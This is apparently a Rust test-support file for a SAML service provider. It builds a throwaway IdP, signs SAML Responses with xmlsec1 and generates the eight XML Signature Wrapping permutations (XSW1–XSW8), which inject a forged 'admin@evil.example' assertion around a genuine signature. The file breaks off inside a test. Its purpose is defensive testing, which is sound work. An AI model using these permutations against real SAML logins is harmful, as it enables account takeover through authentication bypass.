//! SAML test support: a throwaway IdP (key pair, metadata), fresh SAML Responses signed with xmlsec1,
//! and the XML Signature Wrapping permutations XSW1–XSW8 spliced from a genuinely signed response.

use std::ops::Range;
use std::path::PathBuf;
use std::process::Command;
use std::sync::Arc;

use base64::Engine as _;
use openssl::asn1::{Asn1Integer, Asn1Time};
use openssl::bn::{BigNum, MsbOption};
use openssl::hash::MessageDigest;
use openssl::nid::Nid;
use openssl::pkey::PKey;
use openssl::rsa::Rsa;
use openssl::x509::{X509, X509NameBuilder};

const NS_PROTOCOL: &str = "urn:oasis:names:tc:SAML:2.0:protocol";
const NS_ASSERTION: &str = "urn:oasis:names:tc:SAML:2.0:assertion";
const NS_DSIG: &str = "http://www.w3.org/2000/09/xmldsig#";
/// `NameID` format used unless a spec says otherwise.
pub const NAMEID_PERSISTENT: &str = "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent";
/// Top-level `StatusCode` of a successful response.
pub const STATUS_SUCCESS: &str = "urn:oasis:names:tc:SAML:2.0:status:Success";
/// xmlsec1 `--node-xpath` of the Response signature (child of the root, right after its Issuer).
pub const RESPONSE_SIGNATURE_XPATH: &str = "/*/*[local-name()='Signature']";
/// xmlsec1 `--node-xpath` of the Assertion signature (child of the assertion, right after its Issuer).
pub const ASSERTION_SIGNATURE_XPATH: &str = "/*/*[local-name()='Assertion']/*[local-name()='Signature']";
/// ID of the injected assertion in every XSW permutation.
pub const EVIL_ASSERTION_ID: &str = "_evil_assertion";
/// ID of the injected (outer) response in XSW1/XSW2.
pub const EVIL_RESPONSE_ID: &str = "_evil_response";

/// The `ID` attributes xmlsec1 must know about to resolve `URI="#…"` references.
const XMLSEC_ID_ATTRS: [&str; 4] = [
    "--id-attr:ID",
    "urn:oasis:names:tc:SAML:2.0:protocol:Response",
    "--id-attr:ID",
    "urn:oasis:names:tc:SAML:2.0:assertion:Assertion",
];

/// A test IdP key pair: RSA 2048 and a self-signed certificate as PEM strings, plus `key.pem` and `cert.pem`
/// in a temp dir for xmlsec1 (removed when the last clone is dropped).
#[derive(Clone)]
pub struct IdpKeys {
    pub key_pem: String,
    pub cert_pem: String,
    dir: Arc<tempfile::TempDir>,
}

impl IdpKeys {
    pub fn generate(cn: &str) -> IdpKeys {
        let pkey = PKey::from_rsa(Rsa::generate(2048).unwrap()).unwrap();
        let mut name = X509NameBuilder::new().unwrap();
        name.append_entry_by_nid(Nid::COMMONNAME, cn).unwrap();
        let name = name.build();
        let mut serial = BigNum::new().unwrap();
        serial.rand(128, MsbOption::MAYBE_ZERO, false).unwrap();
        let serial: Asn1Integer = serial.to_asn1_integer().unwrap();
        let mut cert = X509::builder().unwrap();
        cert.set_version(2).unwrap();
        cert.set_serial_number(&serial).unwrap();
        cert.set_subject_name(&name).unwrap();
        cert.set_issuer_name(&name).unwrap();
        cert.set_pubkey(&pkey).unwrap();
        cert.set_not_before(&Asn1Time::from_unix(chrono::Utc::now().timestamp() - 3600).unwrap()).unwrap();
        cert.set_not_after(&Asn1Time::days_from_now(3650).unwrap()).unwrap();
        cert.sign(&pkey, MessageDigest::sha256()).unwrap();
        let cert = cert.build();

        let key_pem = String::from_utf8(pkey.private_key_to_pem_pkcs8().unwrap()).unwrap();
        let cert_pem = String::from_utf8(cert.to_pem().unwrap()).unwrap();
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("key.pem"), &key_pem).unwrap();
        std::fs::write(dir.path().join("cert.pem"), &cert_pem).unwrap();
        IdpKeys { key_pem, cert_pem, dir: Arc::new(dir) }
    }

    /// The certificate as base64 DER (no line breaks), as metadata and `ds:X509Certificate` carry it.
    pub fn cert_der_b64(&self) -> String {
        let der = X509::from_pem(self.cert_pem.as_bytes()).unwrap().to_der().unwrap();
        base64::engine::general_purpose::STANDARD.encode(der)
    }

    pub fn key_path(&self) -> PathBuf {
        self.dir.path().join("key.pem")
    }

    pub fn cert_path(&self) -> PathBuf {
        self.dir.path().join("cert.pem")
    }
}

/// IdP metadata: `EntityDescriptor entityID=issuer` with one `IDPSSODescriptor` (SAML 2.0), a signing
/// `KeyDescriptor` with the certificate, `NameIDFormat` persistent and an HTTP-Redirect `SingleSignOnService`.
pub fn idp_metadata(issuer: &str, sso_url: &str, keys: &IdpKeys) -> String {
    format!(
        concat!(
            r#"<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" xmlns:ds="{ds}""#,
            r#" entityID="{issuer}">"#,
            r#"<md:IDPSSODescriptor WantAuthnRequestsSigned="false" protocolSupportEnumeration="{proto}">"#,
            r#"<md:KeyDescriptor use="signing"><ds:KeyInfo><ds:X509Data><ds:X509Certificate>{cert}"#,
            r#"</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>"#,
            r#"<md:NameIDFormat>{persistent}</md:NameIDFormat>"#,
            r#"<md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect""#,
            r#" Location="{sso}"/>"#,
            r#"</md:IDPSSODescriptor></md:EntityDescriptor>"#,
        ),
        ds = NS_DSIG,
        issuer = esc(issuer),
        proto = NS_PROTOCOL,
        cert = keys.cert_der_b64(),
        persistent = NAMEID_PERSISTENT,
        sso = esc(sso_url),
    )
}

/// What goes into one SAML Response. All values are XML-escaped when written.
#[derive(Clone, Debug)]
pub struct ResponseSpec {
    /// IdP entity ID: the Response `Issuer` and the Assertion `Issuer`.
    pub issuer: String,
    /// `Response@Destination`.
    pub destination: Option<String>,
    /// `Response@InResponseTo` and `SubjectConfirmationData@InResponseTo`.
    pub in_response_to: Option<String>,
    /// `Audience`; `None` leaves out the `AudienceRestriction`.
    pub audience: Option<String>,
    /// `SubjectConfirmationData@Recipient`.
    pub recipient: Option<String>,
    pub name_id: String,
    pub name_id_format: String,
    /// `Attribute Name` (NameFormat uri) and its `xs:string` values; empty leaves out the `AttributeStatement`.
    pub attributes: Vec<(String, Vec<String>)>,
    /// Unix seconds: `IssueInstant` of Response and Assertion, `AuthnInstant`.
    pub now: i64,
    /// `Conditions@NotBefore`.
    pub not_before: i64,
    /// `Conditions@NotOnOrAfter` and `SubjectConfirmationData@NotOnOrAfter`.
    pub not_on_or_after: i64,
    /// Top-level `StatusCode@Value` (the assertion is present whatever the status).
    pub status: String,
    pub sign_response: bool,
    pub sign_assertion: bool,
    pub response_id: String,
    pub assertion_id: String,
}

impl ResponseSpec {
    /// A response for `acs_url` at SP `sp_entity_id`: Destination and Recipient are `acs_url`, Audience is
    /// `sp_entity_id`, valid from `now - 60` to `now + 300`, status Success, response and assertion signed,
    /// fresh random IDs.
    pub fn new(
        issuer: &str,
        acs_url: &str,
        sp_entity_id: &str,
        in_response_to: Option<&str>,
        name_id: &str,
        now: i64,
    ) -> Self {
        ResponseSpec {
            issuer: issuer.into(),
            destination: Some(acs_url.into()),
            in_response_to: in_response_to.map(Into::into),
            audience: Some(sp_entity_id.into()),
            recipient: Some(acs_url.into()),
            name_id: name_id.into(),
            name_id_format: NAMEID_PERSISTENT.into(),
            attributes: Vec::new(),
            now,
            not_before: now - 60,
            not_on_or_after: now + 300,
            status: STATUS_SUCCESS.into(),
            sign_response: true,
            sign_assertion: true,
            response_id: random_id(),
            assertion_id: random_id(),
        }
    }
}

/// `"_"` and 32 hex digits.
fn random_id() -> String {
    let mut bytes = [0u8; 16];
    openssl::rand::rand_bytes(&mut bytes).unwrap();
    bytes.iter().fold("_".to_string(), |mut s, b| {
        s.push_str(&format!("{b:02x}"));
        s
    })
}

/// XML-escapes text and attribute values (both quote kinds, so either quoting is safe).
fn esc(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&apos;"),
            c => out.push(c),
        }
    }
    out
}

/// `YYYY-MM-DDTHH:MM:SSZ`.
fn saml_time(unix: i64) -> String {
    chrono::DateTime::from_timestamp(unix, 0).expect("time in range").format("%Y-%m-%dT%H:%M:%SZ").to_string()
}

/// An empty enveloped-signature template over `#id`: exc-c14n, rsa-sha256, sha256; xmlsec1 fills the
/// values and the certificate into `X509Data`.
fn signature_template(id: &str) -> String {
    format!(
        concat!(
            r#"<ds:Signature xmlns:ds="{ds}"><ds:SignedInfo>"#,
            r#"<ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>"#,
            r#"<ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/>"#,
            r##"<ds:Reference URI="#{id}"><ds:Transforms>"##,
            r#"<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/>"#,
            r#"<ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/></ds:Transforms>"#,
            r#"<ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue/>"#,
            r#"</ds:Reference></ds:SignedInfo><ds:SignatureValue/><ds:KeyInfo><ds:X509Data/></ds:KeyInfo>"#,
            r#"</ds:Signature>"#,
        ),
        ds = NS_DSIG,
        id = esc(id),
    )
}

const BEARER: &str = "urn:oasis:names:tc:SAML:2.0:cm:bearer";
const PASSWORD_PROTECTED_TRANSPORT: &str = "urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport";
const ATTRNAME_URI: &str = "urn:oasis:names:tc:SAML:2.0:attrname-format:uri";
const XS_STRING_VALUE: &str = concat!(
    r#"<saml:AttributeValue xmlns:xs="http://www.w3.org/2001/XMLSchema" "#,
    r#"xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="xs:string">"#,
);

/// The response XML, with empty signature templates where the spec asks for signatures if `templates`.
fn response_xml(spec: &ResponseSpec, templates: bool) -> String {
    use std::fmt::Write as _;
    let now = saml_time(spec.now);
    let until = saml_time(spec.not_on_or_after);
    let opt_attr = |name: &str, value: &Option<String>| match value {
        Some(v) => format!(r#" {name}="{}""#, esc(v)),
        None => String::new(),
    };
    let in_response_to = opt_attr("InResponseTo", &spec.in_response_to);
    let issuer = format!("<saml:Issuer>{}</saml:Issuer>", esc(&spec.issuer));
    let mut x = String::with_capacity(4096);
    write!(x, r#"<samlp:Response xmlns:samlp="{NS_PROTOCOL}" xmlns:saml="{NS_ASSERTION}""#).unwrap();
    write!(x, r#" ID="{}" Version="2.0" IssueInstant="{now}""#, esc(&spec.response_id)).unwrap();
    write!(x, "{}{in_response_to}>{issuer}", opt_attr("Destination", &spec.destination)).unwrap();
    if templates && spec.sign_response {
        x.push_str(&signature_template(&spec.response_id));
    }
    write!(x, r#"<samlp:Status><samlp:StatusCode Value="{}"/></samlp:Status>"#, esc(&spec.status)).unwrap();

    write!(x, r#"<saml:Assertion ID="{}" Version="2.0" IssueInstant="{now}">{issuer}"#, esc(&spec.assertion_id))
        .unwrap();
    if templates && spec.sign_assertion {
        x.push_str(&signature_template(&spec.assertion_id));
    }
    let format = esc(&spec.name_id_format);
    write!(x, r#"<saml:Subject><saml:NameID Format="{format}">{}</saml:NameID>"#, esc(&spec.name_id)).unwrap();
    write!(x, r#"<saml:SubjectConfirmation Method="{BEARER}"><saml:SubjectConfirmationData"#).unwrap();
    let recipient = opt_attr("Recipient", &spec.recipient);
    write!(x, r#" NotOnOrAfter="{until}"{recipient}{in_response_to}/></saml:SubjectConfirmation></saml:Subject>"#)
        .unwrap();
    write!(x, r#"<saml:Conditions NotBefore="{}" NotOnOrAfter="{until}">"#, saml_time(spec.not_before)).unwrap();
    if let Some(audience) = &spec.audience {
        let audience = esc(audience);
        write!(x, "<saml:AudienceRestriction><saml:Audience>{audience}</saml:Audience></saml:AudienceRestriction>")
            .unwrap();
    }
    x.push_str("</saml:Conditions>");
    let session = esc(&format!("{}-session", spec.assertion_id));
    write!(x, r#"<saml:AuthnStatement AuthnInstant="{now}" SessionIndex="{session}"><saml:AuthnContext>"#).unwrap();
    write!(x, "<saml:AuthnContextClassRef>{PASSWORD_PROTECTED_TRANSPORT}</saml:AuthnContextClassRef>").unwrap();
    x.push_str("</saml:AuthnContext></saml:AuthnStatement>");
    if !spec.attributes.is_empty() {
        x.push_str("<saml:AttributeStatement>");
        for (name, values) in &spec.attributes {
            write!(x, r#"<saml:Attribute Name="{}" NameFormat="{ATTRNAME_URI}">"#, esc(name)).unwrap();
            for value in values {
                write!(x, "{XS_STRING_VALUE}{}</saml:AttributeValue>", esc(value)).unwrap();
            }
            x.push_str("</saml:Attribute>");
        }
        x.push_str("</saml:AttributeStatement>");
    }
    x.push_str("</saml:Assertion></samlp:Response>");
    x
}

/// The response without any `ds:Signature` element.
pub fn unsigned_response(spec: &ResponseSpec) -> String {
    response_xml(spec, false)
}

/// The response signed with xmlsec1 as `spec` asks: the assertion first, then the response, so the response
/// signature covers the signed assertion. No XML declaration. Unsigned if neither signature is asked for.
pub fn signed_response(spec: &ResponseSpec, keys: &IdpKeys) -> String {
    let mut xml = response_xml(spec, true);
    if spec.sign_assertion {
        xml = xmlsec1_sign(&xml, keys, ASSERTION_SIGNATURE_XPATH);
    }
    if spec.sign_response {
        xml = xmlsec1_sign(&xml, keys, RESPONSE_SIGNATURE_XPATH);
    }
    xml
}

/// As `signed_response`, with `edit` applied to the template before signing (content the spec
/// cannot express, such as an `AttributeValue` holding a `NameID`).
pub fn signed_response_edited(spec: &ResponseSpec, keys: &IdpKeys, edit: impl FnOnce(String) -> String) -> String {
    let mut xml = edit(response_xml(spec, true));
    if spec.sign_assertion {
        xml = xmlsec1_sign(&xml, keys, ASSERTION_SIGNATURE_XPATH);
    }
    if spec.sign_response {
        xml = xmlsec1_sign(&xml, keys, RESPONSE_SIGNATURE_XPATH);
    }
    xml
}

/// Standard padded base64, as an IdP POSTs `SAMLResponse`.
pub fn post_encode(xml: &str) -> String {
    base64::engine::general_purpose::STANDARD.encode(xml.as_bytes())
}

/// `xml` (an `EntityDescriptor` or `EntitiesDescriptor`) with `ID="{id}"` on its root and an
/// enveloped signature by `keys` as the root's first child (exc-c14n, rsa-sha256, sha256; the
/// reference names the root's ID), signed with xmlsec1 like the responses.
pub fn signed_metadata(xml: &str, id: &str, keys: &IdpKeys) -> String {
    signed_metadata_referencing(xml, id, &format!("#{id}"), keys)
}

/// As `signed_metadata`, with the reference `URI` given (`""`: the whole document).
pub fn signed_metadata_referencing(xml: &str, id: &str, uri: &str, keys: &IdpKeys) -> String {
    let open_end = xml.find('>').expect("a root start tag");
    let template = signature_template(id).replace(&format!("URI=\"#{}\"", esc(id)), &format!("URI=\"{}\"", esc(uri)));
    let with_template = format!("{} ID=\"{}\">{template}{}", &xml[..open_end], esc(id), &xml[open_end + 1..]);
    let ids = [
        "--id-attr:ID",
        "urn:oasis:names:tc:SAML:2.0:metadata:EntityDescriptor",
        "--id-attr:ID",
        "urn:oasis:names:tc:SAML:2.0:metadata:EntitiesDescriptor",
        "--id-attr:ID",
        "urn:oasis:names:tc:SAML:2.0:metadata:IDPSSODescriptor",
    ];
    xmlsec1_sign_with_ids(&with_template, keys, RESPONSE_SIGNATURE_XPATH, &ids)
}

/// Fills the signature template at `signature_xpath` with xmlsec1.
fn xmlsec1_sign(xml: &str, keys: &IdpKeys, signature_xpath: &str) -> String {
    xmlsec1_sign_with_ids(xml, keys, signature_xpath, &XMLSEC_ID_ATTRS)
}

/// As `xmlsec1_sign`, with the `--id-attr` arguments `ids`.
fn xmlsec1_sign_with_ids(xml: &str, keys: &IdpKeys, signature_xpath: &str, ids: &[&str]) -> String {
    let dir = tempfile::tempdir().unwrap();
    let (input, output) = (dir.path().join("in.xml"), dir.path().join("out.xml"));
    std::fs::write(&input, xml).unwrap();
    let privkey = format!("{},{}", keys.key_path().display(), keys.cert_path().display());
    let out = Command::new("xmlsec1")
        .args(["--sign", "--privkey-pem", &privkey])
        .args(ids)
        .args(["--node-xpath", signature_xpath])
        .arg("--output")
        .arg(&output)
        .arg(&input)
        .output()
        .expect("run xmlsec1");
    assert!(out.status.success(), "xmlsec1 --sign failed: {}", String::from_utf8_lossy(&out.stderr));
    let signed = std::fs::read_to_string(&output).unwrap();
    strip_xml_declaration(&signed).trim_end().to_string()
}

fn strip_xml_declaration(xml: &str) -> &str {
    match xml.strip_prefix("<?xml") {
        Some(rest) => rest[rest.find("?>").expect("declaration ends") + 2..].trim_start(),
        None => xml,
    }
}

/// Verifies the signature at `signature_xpath` with xmlsec1 against the IdP certificate's key only
/// (`--enabled-key-data key-name`: the `KeyInfo` in the message is ignored). `Err` carries xmlsec1's output.
pub fn xmlsec1_verify(xml: &str, keys: &IdpKeys, signature_xpath: &str) -> Result<(), String> {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("in.xml");
    std::fs::write(&input, xml).unwrap();
    let out = Command::new("xmlsec1")
        .arg("--verify")
        .arg("--pubkey-cert-pem")
        .arg(keys.cert_path())
        .args(["--enabled-key-data", "key-name"])
        .args(XMLSEC_ID_ATTRS)
        .args(["--node-xpath", signature_xpath])
        .arg(&input)
        .output()
        .expect("run xmlsec1");
    if out.status.success() {
        Ok(())
    } else {
        Err(format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr)))
    }
}

/// Byte ranges of the parts of a signed response the XSW permutations move around.
struct Parts {
    response: Range<usize>,
    response_id: Range<usize>,
    response_sig: Option<Range<usize>>,
    assertion: Range<usize>,
    assertion_id: Range<usize>,
    assertion_sig: Option<Range<usize>>,
    name_id_text: Range<usize>,
    /// Qualified name of the signature element (`ds:Signature`), to name a `ds:Object` alike.
    sig_qname: String,
}

fn child<'a, 'i>(node: roxmltree::Node<'a, 'i>, ns: &str, name: &str) -> Option<roxmltree::Node<'a, 'i>> {
    node.children().find(|c| c.is_element() && c.tag_name().namespace() == Some(ns) && c.tag_name().name() == name)
}

fn id_value(node: roxmltree::Node) -> Range<usize> {
    node.attributes().find(|a| a.name() == "ID" && a.namespace().is_none()).expect("element has an ID").range_value()
}

impl Parts {
    fn find(xml: &str) -> Parts {
        let doc = roxmltree::Document::parse(xml).expect("signed response parses");
        let response = doc.root_element();
        assert!(response.has_tag_name((NS_PROTOCOL, "Response")), "root is a samlp:Response");
        let assertion = child(response, NS_ASSERTION, "Assertion").expect("response has an assertion");
        let name_id = child(assertion, NS_ASSERTION, "Subject")
            .and_then(|s| child(s, NS_ASSERTION, "NameID"))
            .expect("assertion has Subject/NameID");
        let name_id_text = name_id.first_child().filter(|t| t.is_text()).expect("NameID has text").range();
        let response_sig = child(response, NS_DSIG, "Signature");
        let assertion_sig = child(assertion, NS_DSIG, "Signature");
        let any_sig = response_sig.or(assertion_sig).expect("the response carries a signature");
        let start = any_sig.range().start + 1;
        let qname_len = xml[start..].find(|c: char| c.is_whitespace() || c == '>' || c == '/').unwrap();
        Parts {
            response: response.range(),
            response_id: id_value(response),
            response_sig: response_sig.map(|n| n.range()),
            assertion: assertion.range(),
            assertion_id: id_value(assertion),
            assertion_sig: assertion_sig.map(|n| n.range()),
            name_id_text,
            sig_qname: xml[start..start + qname_len].to_string(),
        }
    }

    fn object_qname(&self) -> String {
        match self.sig_qname.split_once(':') {
            Some((prefix, _)) => format!("{prefix}:Object"),
            None => "Object".to_string(),
        }
    }
}

/// `xml[span]` with the non-overlapping `edits` (absolute ranges inside `span`) replaced.
fn rewrite(xml: &str, span: Range<usize>, mut edits: Vec<(Range<usize>, String)>) -> String {
    edits.sort_by_key(|(r, _)| r.start);
    let mut out = String::with_capacity(span.len() + 1024);
    let mut at = span.start;
    for (r, with) in edits {
        assert!(r.start >= at && r.end <= span.end, "edits overlap or leave the span");
        out.push_str(&xml[at..r.start]);
        out.push_str(&with);
        at = r.end;
    }
    out.push_str(&xml[at..span.end]);
    out
}

/// Where the end tag of the element at `range` starts.
fn end_tag_start(xml: &str, range: &Range<usize>) -> usize {
    range.start + xml[range.clone()].rfind("</").expect("element has an end tag")
}

/// The element at `range` with `inner` inserted as its last child.
fn with_last_child(xml: &str, range: &Range<usize>, inner: &str) -> String {
    let close = end_tag_start(xml, range);
    format!("{}{inner}{}", &xml[range.start..close], &xml[close..range.end])
}

/// XML Signature Wrapping permutation `n` (1..=8) of a response from [`signed_response`], after SAMLRaider's
/// `XSWHelpers` and the table in crewjam/saml's tests. The genuine signature bytes are kept intact; the injected
/// content carries `evil_name_id`. Every ID in the result is unique: the evil assertion is `_evil_assertion`, the
/// evil response (XSW1/2) `_evil_response`; the genuine signed element keeps its ID.
///
/// XSW1 and XSW2 wrap the Response signature (panic if the response is unsigned); XSW3–XSW8 wrap the Assertion
/// signature (panic if the assertion is unsigned). "Evil assertion" below is the genuine assertion with the
/// NameID replaced, `ID="_evil_assertion"` and its signature removed, unless said otherwise.
///
/// 1. Evil Response (`_evil_response`, evil assertion) keeps the response signature; the genuine Response, its
///    signature removed, sits in a `ds:Object` appended to that signature.
/// 2. As 1, but the genuine Response (signature removed) sits right before the signature, as a sibling.
/// 3. The evil assertion is inserted before the genuine signed assertion.
/// 4. The evil assertion replaces the genuine one, which becomes the evil assertion's last child.
/// 5. The assertion in place becomes evil but keeps the genuine signature; a copy of the genuine assertion
///    without its signature is appended after it.
/// 6. As 5, but the unsigned genuine copy is appended inside the signature (last child of `ds:Signature`).
/// 7. An unqualified `<Extensions>` element holding the evil assertion is inserted before the genuine one.
/// 8. As 6, but the unsigned genuine copy is wrapped in a `ds:Object`.
pub fn xsw(signed_xml: &str, n: u8, evil_name_id: &str) -> String {
    let p = Parts::find(signed_xml);
    let s = signed_xml;
    let whole = 0..s.len();
    let evil_name = (p.name_id_text.clone(), esc(evil_name_id));
    let evil_id = (p.assertion_id.clone(), EVIL_ASSERTION_ID.to_string());
    let need = |sig: &Option<Range<usize>>, what: &str| -> Range<usize> {
        sig.clone().unwrap_or_else(|| panic!("XSW{n} wraps the {what} signature: sign the {what}"))
    };
    // The evil assertion: evil NameID, evil ID, no signature.
    let evil_assertion = || {
        let mut edits = vec![evil_name.clone(), evil_id.clone()];
        edits.extend(p.assertion_sig.clone().map(|r| (r, String::new())));
        rewrite(s, p.assertion.clone(), edits)
    };
    // The genuine assertion with its signature removed (what the assertion signature's digest covers).
    let genuine_unsigned_assertion =
        |sig: &Range<usize>| rewrite(s, p.assertion.clone(), vec![(sig.clone(), String::new())]);

    match n {
        1 | 2 => {
            let sig = need(&p.response_sig, "response");
            let genuine = rewrite(s, p.response.clone(), vec![(sig.clone(), String::new())]);
            let object = p.object_qname();
            let moved_sig = if n == 1 {
                with_last_child(s, &sig, &format!("<{object}>{genuine}</{object}>"))
            } else {
                format!("{genuine}{}", &s[sig.clone()])
            };
            let edits = vec![
                (p.response_id.clone(), EVIL_RESPONSE_ID.to_string()),
                (sig, moved_sig),
                (p.assertion.clone(), evil_assertion()),
            ];
            rewrite(s, whole, edits)
        }
        3 => {
            need(&p.assertion_sig, "assertion");
            let evil = evil_assertion();
            rewrite(s, whole, vec![(p.assertion.clone(), format!("{evil}{}", &s[p.assertion.clone()]))])
        }
        4 => {
            need(&p.assertion_sig, "assertion");
            let evil = evil_assertion();
            let close = evil.rfind("</").unwrap();
            let nested = format!("{}{}{}", &evil[..close], &s[p.assertion.clone()], &evil[close..]);
            rewrite(s, whole, vec![(p.assertion.clone(), nested)])
        }
        5 => {
            let sig = need(&p.assertion_sig, "assertion");
            let evil_signed = rewrite(s, p.assertion.clone(), vec![evil_name, evil_id]);
            let genuine = genuine_unsigned_assertion(&sig);
            rewrite(s, whole, vec![(p.assertion.clone(), format!("{evil_signed}{genuine}"))])
        }
        6 | 8 => {
            let sig = need(&p.assertion_sig, "assertion");
            let genuine = genuine_unsigned_assertion(&sig);
            let inner = if n == 8 {
                let object = p.object_qname();
                format!("<{object}>{genuine}</{object}>")
            } else {
                genuine
            };
            let wrapped_sig = with_last_child(s, &sig, &inner);
            rewrite(s, whole, vec![evil_name, evil_id, (sig, wrapped_sig)])
        }
        7 => {
            need(&p.assertion_sig, "assertion");
            let extensions = format!("<Extensions>{}</Extensions>", evil_assertion());
            rewrite(s, whole, vec![(p.assertion.clone(), format!("{extensions}{}", &s[p.assertion.clone()]))])
        }
        _ => panic!("XSW permutations are 1..=8, not {n}"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::str::FromStr;

    const IDP: &str = "https://idp.example.test/metadata";
    const ACS: &str = "http://127.0.0.1:8080/saml/acs";
    const SP: &str = "http://127.0.0.1:8080/saml/metadata";
    const EVIL: &str = "admin@evil.example";

    fn spec(sign_response: bool, sign_assertion: bool) -> ResponseSpec {
        let mut spec = ResponseSpec::new(IDP, ACS, SP, Some("_req1"), "user-1234", chrono::Utc::now().timestamp());
        spec.attributes = vec![
            ("urn:oid:0.9.2342.19200300.100.1.3".into(), vec!["alice@example.test".into()]),
            ("groups".into(), vec!["a".into(), "b & c".into()]),
        ];
        spec.sign_response = sign_response;
        spec.sign_assertion = sign_assertion;
        spec
    }

    /// The `SignatureValue` text of the signature whose reference points at `id`.
    fn signature_value(xml: &str, id: &str) -> String {
        let doc = roxmltree::Document::parse(xml).unwrap();
        let uri = format!("#{id}");
        let sig = doc
            .descendants()
            .find(|n| {
                n.has_tag_name((NS_DSIG, "Signature"))
                    && n.children().filter(|i| i.has_tag_name((NS_DSIG, "SignedInfo"))).any(|i| {
                        i.children().any(|r| r.has_tag_name((NS_DSIG, "Reference")) && r.attribute("URI") == Some(&uri))
                    })
            })
            .unwrap_or_else(|| panic!("a signature over {id}"));
        let value = sig.children().find(|c| c.has_tag_name((NS_DSIG, "SignatureValue"))).unwrap();
        let text = value.text().unwrap().to_string();
        assert!(text.trim().len() > 300, "an RSA-2048 signature value: {text:?}");
        text
    }

    /// xmlsec1 XPath selecting the signature (anywhere) whose reference points at `id`.
    fn signature_over(id: &str) -> String {
        format!("//*[local-name()='Signature'][*[local-name()='SignedInfo']/*[local-name()='Reference'][@URI='#{id}']]")
    }

    #[test]
    fn saml_support_signed_responses_verify_in_each_mode() {
        let keys = IdpKeys::generate("saml-support-idp");
        for (sign_response, sign_assertion) in [(true, false), (false, true), (true, true)] {
            let spec = spec(sign_response, sign_assertion);
            let xml = signed_response(&spec, &keys);
            let mode = format!("response signed {sign_response}, assertion signed {sign_assertion}");
            assert!(xml.starts_with("<samlp:Response "), "{mode}: no declaration: {xml}");
            let sigs = roxmltree::Document::parse(&xml)
                .unwrap()
                .descendants()
                .filter(|n| n.has_tag_name((NS_DSIG, "Signature")))
                .count();
            assert_eq!(sigs, usize::from(sign_response) + usize::from(sign_assertion), "{mode}");
            let parsed = samael::schema::Response::from_str(&xml).expect("samael reads the response");
            assert_eq!(parsed.id, spec.response_id);
            assert_eq!(parsed.signature.is_some(), sign_response, "{mode}");

            let tampered = xml.replacen(">user-1234<", ">user-1235<", 1);
            assert_ne!(tampered, xml);
            if sign_response {
                xmlsec1_verify(&xml, &keys, RESPONSE_SIGNATURE_XPATH).unwrap_or_else(|e| panic!("{mode}: {e}"));
                assert!(xmlsec1_verify(&tampered, &keys, RESPONSE_SIGNATURE_XPATH).is_err(), "{mode}: tampered");
            }
            if sign_assertion {
                xmlsec1_verify(&xml, &keys, ASSERTION_SIGNATURE_XPATH).unwrap_or_else(|e| panic!("{mode}: {e}"));
                assert!(xmlsec1_verify(&tampered, &keys, ASSERTION_SIGNATURE_XPATH).is_err(), "{mode}: tampered");
            }
        }
        // Another IdP's key does not verify it.
        let xml = signed_response(&spec(true, true), &keys);
        assert!(xmlsec1_verify(&xml, &IdpKeys::generate("other"), RESPONSE_SIGNATURE_XPATH).is_err());
    }

    #[test]
    fn saml_support_unsigned_response_follows_the_spec() {
        let mut spec = spec(true, true);
        spec.name_id = r#"a&b<"c'>"#.into();
        spec.audience = None;
        spec.now = 1_700_000_000;
        spec.not_before = spec.now - 60;
        spec.not_on_or_after = spec.now + 300;
        let xml = unsigned_response(&spec);
        assert!(!xml.contains("Signature") && !xml.contains("<!--") && !xml.contains("<!"));
        let doc = roxmltree::Document::parse(&xml).unwrap();
        let root = doc.root_element();
        assert_eq!(root.attribute("Destination"), Some(ACS));
        assert_eq!(root.attribute("InResponseTo"), Some("_req1"));
        assert_eq!(root.attribute("IssueInstant"), Some("2023-11-14T22:13:20Z"));
        let find = |name: &str| doc.descendants().find(|n| n.has_tag_name((NS_ASSERTION, name))).unwrap();
        assert_eq!(find("NameID").text(), Some(r#"a&b<"c'>"#));
        assert_eq!(find("NameID").attribute("Format"), Some(NAMEID_PERSISTENT));
        assert_eq!(find("Conditions").attribute("NotBefore"), Some("2023-11-14T22:12:20Z"));
        assert_eq!(find("SubjectConfirmationData").attribute("NotOnOrAfter"), Some("2023-11-14T22:18:20Z"));
        assert_eq!(find("SubjectConfirmationData").attribute("Recipient"), Some(ACS));
        assert!(doc.descendants().all(|n| !n.has_tag_name((NS_ASSERTION, "AudienceRestriction"))));
        let values: Vec<_> = doc
            .descendants()
            .filter(|n| n.has_tag_name((NS_ASSERTION, "AttributeValue")))
            .map(|n| n.text().unwrap_or(""))
            .collect();
        assert_eq!(values, ["alice@example.test", "a", "b & c"]);
        let posted = base64::engine::general_purpose::STANDARD.decode(post_encode(&xml)).unwrap();
        assert_eq!(posted, xml.as_bytes());
    }

    #[test]
    fn saml_support_xsw_permutations_parse_and_keep_the_genuine_signature() {
        let keys = IdpKeys::generate("saml-support-idp");
        // Both signatures, and the single signature each permutation targets.
        for (sign_response, sign_assertion) in [(true, true), (true, false), (false, true)] {
            let spec = spec(sign_response, sign_assertion);
            let signed = signed_response(&spec, &keys);
            for n in 1..=8u8 {
                let wraps_response = n <= 2;
                if (wraps_response && !sign_response) || (!wraps_response && !sign_assertion) {
                    continue;
                }
